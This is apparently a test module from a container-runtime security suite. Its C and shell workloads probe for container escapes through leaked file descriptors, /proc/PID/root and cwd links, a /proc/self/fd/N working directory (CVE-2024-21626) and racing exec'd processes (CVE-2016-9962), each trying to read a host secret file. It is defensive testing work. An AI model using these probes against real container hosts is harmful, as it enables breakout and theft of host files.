/**
 * File descriptors and magic links that lead out of the container: descriptors the runtime
 * leaves open in the workload (or in a process it exec's into the container), a working
 * directory set to /proc/self/fd/N in the config (CVE-2024-21626: the runtime's own descriptor
 * N, e.g. the host's /sys/fs/cgroup, becomes the workload's cwd), and the /proc/PID/root and
 * /proc/PID/cwd links of every process the container can see.
 *
 * The workloads list every descriptor and link they find beyond stdin/stdout/stderr (those are
 * the runtime's stdio, host files by design) as `OBJ label dev=D ino=I dir=0|1 outside=-1|0|1 ->
 * target` lines: device and inode of the object, and, for a directory, whether walking up its
 * `..` ends at a top that is not the container's own root (outside=1). Through every directory
 * they also try to read the host's secret file by a relative path (`../` x 64 + its path). The
 * judge decides from the host's side: the secret printed, or an object whose device and inode
 * are those of a host directory (/, /proc, /sys/fs/cgroup, the bundle...), or one outside the
 * root on the host's kernel, is an escape. Nothing here writes to the host.
 */
import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { blocked, escaped, excerpt, leaksSecret, ranToEnd, report, trialError } from '../framework.js';
import type { Attempt, RunOutput, Trial, Verdict } from '../framework.js';
import { REPO } from '../../helpers/runtime.js';

const HOST_RELEASE = readFileSync('/proc/sys/kernel/osrelease', 'utf8').trim();

/** The environment variable that tells the workload where the host's secret file is. */
const SECRET_ENV = 'MOAT_SECRET_PATH';

/** Lets the workload know the path (not the content) of the host's secret file. */
export function passSecretPath(t: Trial): void {
  (t.spec['process'].env as string[]).push(`${SECRET_ENV}=${t.secretFile}`);
}

/**
 * Whether the workload ran on the host's kernel: the same boot id; else, under Moat's sentry,
 * yes (its descriptors are the host kernel's; it reports a fixed kernel identity); else a
 * different kernel release (gVisor's own, which has no boot id) says no.
 */
export function onHostKernel(t: Trial, r: Map<string, string>): boolean {
  const boot = r.get('BOOT');
  if (boot) return boot === t.hostBootId;
  if (t.runtime === 'moat-sentry') return true;
  const release = r.get('KREL');
  return !release || release === HOST_RELEASE;
}

/** Host directories a leaked descriptor must never be, by "dev:ino" (as stat(2) reports them). */
function hostDirectories(t: Trial): Map<string, string> {
  const paths = ['/', '/proc', '/sys', '/sys/fs/cgroup', '/dev', '/run', '/tmp', '/etc', '/root', '/home', '/usr', '/var', REPO];
  paths.push(dirname(t.hostDir), t.hostDir, t.bundle);
  try {
    for (const e of readdirSync('/sys/fs/cgroup')) paths.push(join('/sys/fs/cgroup', e));
  } catch {
    // no cgroup tree here
  }
  const m = new Map<string, string>();
  for (const p of paths) {
    try {
      const st = statSync(p, { bigint: true });
      if (st.isDirectory()) m.set(`${st.dev}:${st.ino}`, p);
    } catch {
      // not on this host
    }
  }
  return m;
}

/** One object the workload found. */
interface Obj {
  label: string;
  devIno: string;
  dir: boolean;
  outside: number;
  target: string;
}

/** The `OBJ` lines of the output. */
export function objects(out: RunOutput): Obj[] {
  const objs: Obj[] = [];
  for (const line of out.stdout.split('\n')) {
    const m = /^OBJ (\S+) dev=(\d+) ino=(\d+) dir=([01]) outside=(-?\d+) -> (.*)$/.exec(line);
    if (m) objs.push({ label: m[1] ?? '', devIno: `${m[2]}:${m[3]}`, dir: m[4] === '1', outside: Number(m[5]), target: m[6] ?? '' });
  }
  return objs;
}

/**
 * Judges the objects a workload reported: the host's secret printed, a host directory, or an
 * object outside the container's root (on the host's kernel) is an escape.
 */
export function judgeObjects(t: Trial, out: RunOutput, ran = ranToEnd(out)): Verdict {
  if (leaksSecret(t, out)) return escaped(`read the host's secret file: ${excerpt(out)}`);
  if (!ran) return trialError(`the workload did not finish: ${excerpt(out)}`);
  const r = report(out);
  const objs = objects(out);
  if (onHostKernel(t, r)) {
    const dirs = hostDirectories(t);
    for (const o of objs) {
      const host = dirs.get(o.devIno);
      if (host !== undefined) return escaped(`${o.label} is the host's ${host} (-> ${o.target})`);
    }
    for (const o of objs) if (o.outside === 1) return escaped(`${o.label} leads outside the container's root (-> ${o.target})`);
  }
  const list = objs.map((o) => `${o.label}->${o.target}`).join(', ');
  const shown = list.length > 200 ? `${list.slice(0, 197)}...` : list;
  return blocked(objs.length ? `${objs.length} checked, none outside the root: ${shown}` : 'no descriptor beyond stdio');
}

/** Where the trial's container lives: its id and the runtime's state root (see framework.ts runTrial). */
function containerOf(t: Trial): { id: string; root: string } {
  return { id: t.id, root: t.stateRoot };
}

/** Result of one `exec` into the trial's container. */
export interface ExecResult {
  status: number | null;
  signal: NodeJS.Signals | null;
  stderr: string;
}

/** Runs `args` in the trial's running container with the runtime's own `exec` (stdio /dev/null). */
export function execInto(t: Trial, args: string[], timeoutMs = 20_000): Promise<ExecResult> {
  const { id, root } = containerOf(t);
  let cmd: string;
  let argv: string[];
  if (t.runtime.startsWith('moat-')) {
    cmd = process.execPath;
    argv = [join(REPO, 'bin', 'moat.cjs'), '--root', root, 'exec', id, ...args];
  } else if (t.runtime === 'runc') {
    cmd = 'runc';
    argv = ['--root', root, 'exec', id, ...args];
  } else {
    cmd = 'runsc';
    argv = ['--root', root, '--network=none', '--platform=ptrace', 'exec', id, ...args];
  }
  return new Promise((resolve) => {
    const child = spawn(cmd, argv, { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('error', (e) => {
      clearTimeout(timer);
      resolve({ status: null, signal: null, stderr: e.message });
    });
    child.on('exit', (status, signal) => {
      clearTimeout(timer);
      resolve({ status, signal, stderr: stderr.trim() });
    });
  });
}

/** Waits until the workload printed `marker` (its stdout goes to a file in the trial's directory). */
export async function waitForOutput(t: Trial, marker: string, running: Promise<unknown>, timeoutMs: number): Promise<boolean> {
  let done = false;
  void running.then(() => (done = true));
  const file = join(t.hostDir, 'stdout');
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline && !done) {
    if (existsSync(file) && readFileSync(file, 'utf8').includes(marker)) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return false;
}

/**
 * Common C: headers, errno names, the boot id and kernel release, the alarm, and the
 * inspection of one descriptor or link (`inspect`): its OBJ line, the walk up its `..`, and
 * the try for the host's secret through it.
 */
export const FD_PRELUDE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/utsname.h>

static const char *ename(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "EUNKNOWN";
}
static struct stat rootst;
static const char *secret_path;

static void start(void) {
  alarm(25);
  setvbuf(stdout, NULL, _IONBF, 0);
  char b[80] = {0};
  int fd = open("/proc/sys/kernel/random/boot_id", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n > 0) { b[strcspn(b, "\n")] = 0; printf("BOOT=%s\n", b); }
  }
  struct utsname u;
  if (uname(&u) == 0) printf("KREL=%s\n", u.release);
  stat("/", &rootst);
  secret_path = getenv("MOAT_SECRET_PATH");
}

/* 1 when walking up '..' from directory d ends at a top that is not our root, 0 at our root, -1 unknown */
__attribute__((unused)) static int walk_out(int d) {
  int cur = openat(d, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (cur < 0) return -1;
  for (int i = 0; i < 4096; i++) {
    struct stat a, b;
    if (fstat(cur, &a) != 0) break;
    if (a.st_dev == rootst.st_dev && a.st_ino == rootst.st_ino) { close(cur); return 0; }
    int up = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (up < 0) break;
    close(cur);
    cur = up;
    if (fstat(up, &b) != 0) break;
    if (b.st_dev == a.st_dev && b.st_ino == a.st_ino) { close(cur); return 1; }
  }
  close(cur);
  return -1;
}

/* reads the host's secret through directory d by a relative path, printing whatever comes out */
__attribute__((unused)) static void try_secret(int d, const char *label) {
  if (!secret_path || secret_path[0] != '/') return;
  char rel[PATH_MAX];
  rel[0] = 0;
  for (int i = 0; i < 64; i++) strcat(rel, "../");
  strncat(rel, secret_path + 1, sizeof rel - strlen(rel) - 1);
  int fd = openat(d, rel, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  char buf[200] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n > 0) printf("SECRET_VIA_%s=%s\n", label, buf);
}

/* one descriptor or magic link: what it is, whether it leads outside, the secret through it */
__attribute__((unused)) static void inspect(const char *label, const char *link) {
  char tgt[PATH_MAX];
  ssize_t n = readlink(link, tgt, sizeof tgt - 1);
  if (n < 0) { printf("NOLINK %s %s\n", label, ename(errno)); return; }
  tgt[n] = 0;
  int fd = open(link, O_PATH | O_CLOEXEC);
  if (fd < 0) { printf("NOOPEN %s %s -> %s\n", label, ename(errno), tgt); return; }
  struct stat st;
  if (fstat(fd, &st) != 0) { close(fd); return; }
  int dir = S_ISDIR(st.st_mode), out = -1;
  if (dir) {
    out = walk_out(fd);
    try_secret(fd, label);
  } else if (tgt[0] == '/' && strncmp(tgt, "/memfd:", 7) != 0 && !strstr(tgt, " (deleted)")) {
    struct stat in;
    out = (stat(tgt, &in) == 0 && in.st_dev == st.st_dev && in.st_ino == st.st_ino) ? 0 : 1;
  }
  printf("OBJ %s dev=%llu ino=%llu dir=%d outside=%d -> %s\n", label, (unsigned long long)st.st_dev,
         (unsigned long long)st.st_ino, dir, out, tgt);
  close(fd);
}

/* every descriptor of process pid beyond stdio (and the directory this listing uses) */
__attribute__((unused)) static void inspect_fds(const char *pid) {
  char path[PATH_MAX], link[2 * PATH_MAX], label[2 * PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *d = opendir(path);
  if (!d) { printf("NOFDS %s %s\n", pid, ename(errno)); return; }
  int self = strcmp(pid, "self") == 0;
  struct dirent *e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    int n = atoi(e->d_name);
    if (n <= 2 || (self && n == dirfd(d))) continue;
    snprintf(link, sizeof link, "%s/%s", path, e->d_name);
    snprintf(label, sizeof label, "%s:fd%s", pid, e->d_name);
    inspect(label, link);
  }
  closedir(d);
}
`;

/** PID 1's own descriptors, or those of every visible process with their cwd and root links. */
const FDS_C = String.raw`${FD_PRELUDE}
int main(int argc, char **argv) {
  start();
  int all = argc > 1 && strcmp(argv[1], "all") == 0;
  if (!all) {
    inspect_fds("self");
  } else {
    char me[16];
    snprintf(me, sizeof me, "%d", getpid());
    DIR *p = opendir("/proc");
    struct dirent *e;
    int pids = 0;
    while (p && (e = readdir(p))) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      pids++;
      if (strcmp(e->d_name, me) != 0) inspect_fds(e->d_name);
      char link[PATH_MAX], label[PATH_MAX];
      snprintf(link, sizeof link, "/proc/%s/cwd", e->d_name);
      snprintf(label, sizeof label, "%s:cwd", e->d_name);
      inspect(label, link);
      snprintf(link, sizeof link, "/proc/%s/root", e->d_name);
      snprintf(label, sizeof label, "%s:root", e->d_name);
      inspect(label, link);
    }
    if (p) closedir(p);
    printf("PIDS=%d\n", pids);
  }
  printf("DONE=1\n");
  return 0;
}
`;

/** The working directory as the kernel has it (getcwd(2), not libc's), and what it leads to. */
const CWD_C = String.raw`${FD_PRELUDE}
int main(void) {
  start();
  char raw[PATH_MAX] = {0};
  long n = syscall(SYS_getcwd, raw, sizeof raw - 1);
  printf("CWD=%s\n", n > 0 ? raw : ename(errno));
  inspect("cwd", "/proc/self/cwd");
  try_secret(AT_FDCWD, "CWD");
  inspect_fds("self");
  printf("DONE=1\n");
  return 0;
}
`;

/** A cwd of /proc/self/fd/N: the runtime refusing to start is a block; else the cwd is judged. */
function cwdAttempt(n: number): Attempt {
  return {
    id: `fd-leak-cwd-proc-self-fd-${n}`,
    category: 'fd-leak',
    title: `sets process.cwd to /proc/self/fd/${n} (CVE-2024-21626: the runtime's leaked fd ${n} as the cwd)`,
    shows: 'the runtime refuses the cwd, or the cwd resolves inside the container\'s root',
    c: CWD_C,
    setup: (t) => {
      passSecretPath(t);
      t.spec['process'].cwd = `/proc/self/fd/${n}`;
    },
    judge: (t, out) => {
      if (!leaksSecret(t, out) && !ranToEnd(out)) {
        // the runtime did not start the workload: a block if its error names the cwd
        if (out.status !== 0 && `${out.stderr}\n${out.stdout}`.includes(`/proc/self/fd/${n}`)) {
          return blocked(`the runtime refused the cwd: ${excerpt(out, 2)}`);
        }
        return trialError(`the workload did not finish: ${excerpt(out)}`);
      }
      const r = report(out);
      const cwd = r.get('CWD') ?? '';
      if (cwd.startsWith('(unreachable)') && onHostKernel(t, r)) return escaped(`the cwd is outside the container's root: ${cwd}`);
      const v = judgeObjects(t, out);
      return v.outcome === 'blocked' ? blocked(`cwd ${cwd} is inside the root; ${v.detail}`) : v;
    },
  };
}

/** The racing watcher of fd-leak-exec-process: each new process exec'd into the container. */
const EXEC_WATCH_C = String.raw`${FD_PRELUDE}
int main(void) {
  start();
  static char done[4096];
  int seen = 0;
  printf("READY=1\n");
  time_t end = time(NULL) + 15;
  while (time(NULL) < end && access("/dev/shm/moat-stop", F_OK) != 0) {
    for (int pid = 2; pid < 4096; pid++) {
      if (done[pid]) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/fd", pid);
      DIR *fds = opendir(p);
      if (!fds) {
        if (errno == ENOENT) { if (pid > seen + 64) break; continue; }
        continue; /* EACCES: a runtime stage, not dumpable (yet) */
      }
      closedir(fds);
      char cwd[PATH_MAX];
      snprintf(p, sizeof p, "/proc/%d/cwd", pid);
      if (readlink(p, cwd, sizeof cwd) < 0) continue; /* EACCES: a runtime stage, not dumpable (yet) */
      done[pid] = 1;
      if (pid > seen) seen = pid;
      char s[16];
      snprintf(s, sizeof s, "%d", pid);
      inspect_fds(s);
      char label[64];
      snprintf(p, sizeof p, "/proc/%d/cwd", pid);
      snprintf(label, sizeof label, "%d:cwd", pid);
      inspect(label, p);
      snprintf(p, sizeof p, "/proc/%d/root", pid);
      snprintf(label, sizeof label, "%d:root", pid);
      inspect(label, p);
    }
  }
  int n = 0;
  for (int i = 0; i < 4096; i++) n += done[i];
  printf("EXECS_SEEN=%d\n", n);
  printf("DONE=1\n");
  return 0;
}
`;

/**
 * Shell helpers: UP is `/..` x 64; `out DIR` prints 1 when DIR/$UP is not the container's root,
 * 0 when it is, -1 when it cannot be resolved.
 */
const SH_WALK = [
  'R=$(stat -c %d:%i /); UP=; i=0; while [ $i -lt 64 ]; do UP="$UP/.."; i=$((i+1)); done',
  'out() { u=$(stat -c %d:%i $1$UP 2>/dev/null); if [ -z "$u" ]; then echo -1; elif [ "$u" = "$R" ]; then echo 0; else echo 1; fi; }',
].join('\n');

/** Exec results of the running trial (one trial at a time). */
let execs: ExecResult[] = [];

/** The attempts of this category. */
export const attempts: Attempt[] = [
  {
    id: 'fd-leak-init-fds',
    category: 'fd-leak',
    title: 'lists the descriptors the runtime left open in the workload (beyond stdio) and walks out through each',
    shows: 'the workload starts with no descriptor of the runtime\'s beyond stdin/stdout/stderr',
    c: FDS_C,
    args: ['self'],
    setup: passSecretPath,
    judge: (t, out) => judgeObjects(t, out),
  },
  {
    id: 'fd-leak-shell-fds',
    category: 'fd-leak',
    title: 'a shell checks its own descriptors (beyond stdio) for a directory outside the root and reads the secret through it',
    shows: 'the shell holds nothing but its stdio; no `..` walk leaves the root',
    sh: [
      SH_WALK,
      'for f in /proc/$$/fd/*; do n=${f##*/}; [ "$n" -le 2 ] 2>/dev/null && continue',
      '  t=$(readlink $f); s=$(stat -L -c "dev=%d ino=%i" $f 2>/dev/null) || continue',
      '  if [ -d $f ]; then cat $f$UP$MOAT_SECRET_PATH 2>/dev/null; echo "OBJ sh:fd$n $s dir=1 outside=$(out $f) -> $t"',
      '  else echo "OBJ sh:fd$n $s dir=0 outside=-1 -> $t"; fi',
      'done',
      'echo BOOT=$(cat /proc/sys/kernel/random/boot_id 2>/dev/null); echo KREL=$(uname -r); echo DONE=1',
    ].join('\n'),
    setup: passSecretPath,
    judge: (t, out) => judgeObjects(t, out),
  },
  {
    id: 'fd-leak-proc-all-fds',
    category: 'fd-leak',
    title: 'looks through every visible process\'s descriptors, cwd and root for the host\'s /proc, /sys/fs/cgroup or /',
    shows: 'no visible process holds a host directory; every cwd and root walks up to the container\'s root',
    c: FDS_C,
    args: ['all'],
    setup: passSecretPath,
    judge: (t, out) => judgeObjects(t, out),
  },
  {
    id: 'fd-leak-proc-root',
    category: 'fd-leak',
    title: 'reads the host\'s secret through /proc/1/root, /proc/self/root and every visible /proc/PID/{root,cwd} (plus `..` x 64)',
    shows: 'every root and cwd link of every visible process is inside the container',
    sh: [
      SH_WALK,
      'for p in /proc/1 /proc/self /proc/[0-9]*; do for l in root cwd; do f=$p/$l',
      '  cat $f$MOAT_SECRET_PATH $f$UP$MOAT_SECRET_PATH 2>/dev/null',
      '  s=$(stat -L -c "dev=%d ino=%i" $f 2>/dev/null) || continue',
      '  echo "OBJ ${p#/proc/}:$l $s dir=1 outside=$(out $f) -> $(readlink $f)"',
      'done; done',
      'echo BOOT=$(cat /proc/sys/kernel/random/boot_id 2>/dev/null); echo KREL=$(uname -r); echo DONE=1',
    ].join('\n'),
    setup: passSecretPath,
    judge: (t, out) => judgeObjects(t, out),
  },
  {
    id: 'fd-leak-exec-process',
    category: 'fd-leak',
    title: 'races each process the runtime exec\'s into the container for its descriptors, cwd and root (CVE-2016-9962)',
    shows: 'an exec\'d process is not inspectable until it runs the workload\'s program, and then holds nothing of the host\'s',
    c: EXEC_WATCH_C,
    setup: (t) => {
      passSecretPath(t);
      execs = [];
    },
    during: async (t, running) => {
      if (!(await waitForOutput(t, 'READY=1', running, 30_000))) return;
      for (let i = 0; i < 3; i++) execs.push(await execInto(t, ['/bin/sleep', '1']));
      execs.push(await execInto(t, ['/bin/touch', '/dev/shm/moat-stop']));
    },
    judge: (t, out) => {
      const v = judgeObjects(t, out);
      if (v.outcome !== 'blocked') return v;
      const ran = execs.filter((e) => e.status === 0).length;
      if (ran === 0) return trialError(`the runtime's exec did not run: ${execs[0]?.stderr.split('\n')[0] ?? 'never tried'}`);
      return blocked(`${ran} execs, ${report(out).get('EXECS_SEEN') ?? '?'} seen; ${v.detail}`);
    },
  },
  ...[3, 4, 5, 6, 7, 8, 9, 10].map(cwdAttempt),
];
